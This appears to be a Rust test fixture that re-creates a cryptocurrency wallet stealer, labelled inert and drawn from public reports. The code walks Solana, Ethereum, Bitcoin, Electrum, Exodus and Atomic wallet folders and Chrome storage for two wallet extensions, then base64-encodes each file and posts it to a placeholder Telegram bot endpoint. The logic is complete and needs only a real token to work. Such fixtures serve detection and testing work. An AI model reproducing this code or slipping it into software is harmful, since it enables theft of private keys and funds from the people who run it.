// Synthetic, inert fixture written from public reports
use std::fs;
use std::path::{Path, PathBuf};

use base64::Engine;

const BOT: &str = "https://api.telegram.invalid/bot0000000000:FAKE-FAKE-FAKE/sendMessage";
const CHAT: &str = "-1000000000000";

const FOLDERS: &[&str] = &[
    ".config/solana",
    ".ethereum/keystore",
    ".bitcoin/wallets",
    ".electrum/wallets",
    ".config/Exodus/exodus.wallet",
    ".config/atomic/Local Storage/leveldb",
    "AppData/Roaming/Exodus/exodus.wallet",
    "AppData/Roaming/Electrum/wallets",
    "Library/Application Support/Exodus/exodus.wallet",
];

const EXTENSIONS: &[&str] = &["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa"];

fn home() -> Option<PathBuf> {
    std::env::var_os("HOME").or_else(|| std::env::var_os("USERPROFILE")).map(PathBuf::from)
}

fn send(name: &str, data: &[u8]) {
    for (n, part) in data.chunks(2400).enumerate() {
        let text = base64::engine::general_purpose::STANDARD.encode(part);
        let _ = ureq::post(BOT).send_form(&[("chat_id", CHAT), ("text", &format!("{name} {n}\n{text}"))]);
    }
}

fn walk(dir: &Path, depth: usize) {
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() && depth < 3 {
            walk(&path, depth + 1);
        } else if entry.metadata().map_or(false, |m| m.len() < 512 * 1024) {
            if let Ok(data) = fs::read(&path) {
                send(&path.display().to_string(), &data);
            }
        }
    }
}

pub fn run() {
    let Some(home) = home() else { return };
    for f in FOLDERS {
        walk(&home.join(f), 0);
    }
    for profile in [".config/google-chrome/Default", "AppData/Local/Google/Chrome/User Data/Default"] {
        for id in EXTENSIONS {
            walk(&home.join(profile).join("Local Extension Settings").join(id), 0);
        }
    }
}
